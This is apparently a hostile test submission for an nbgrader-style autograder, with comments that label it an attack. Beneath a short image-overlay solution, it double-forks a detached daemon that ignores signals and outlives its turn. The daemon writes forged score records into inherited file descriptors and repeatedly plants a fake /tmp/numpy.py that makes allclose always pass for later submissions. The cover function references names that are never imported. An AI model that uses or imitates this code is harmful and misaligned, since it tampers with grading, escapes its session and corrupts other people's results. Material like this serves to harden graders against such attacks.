# attack: a daemon in a session of its own outlives its turn and answers for whoever comes next
# on: solution
# harm: under --trust and plain nbgrader it goes on after grading, with the grader's rights and files
# %% solution="overlay"
import os
import signal
import time


def linger():
    """Hold on to every descriptor and keep writing into it, and into places the next one reads."""
    for number in range(1, 30):
        signal.signal(number, signal.SIG_IGN) if number not in (9, 19) else None
    time.sleep(1.5)
    for _ in range(600):
        for descriptor in range(3, 64):
            try:
                os.set_blocking(descriptor, False)
                os.write(descriptor, b'\x0f\0\0\0\0\0\0\0{"points": 25}\n')
                open("/tmp/numpy.py", "w").write("allclose = lambda *a, **k: True")
            except OSError:
                continue
        time.sleep(0.1)
    os._exit(0)


if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        linger()
    os._exit(0)


def overlay(image, heatmap, alpha):
    colours = 255 * colormaps["viridis"](np.asarray(heatmap))[..., :3]
    return ((1 - alpha) * np.asarray(image) + alpha * colours).round().astype(np.uint8)
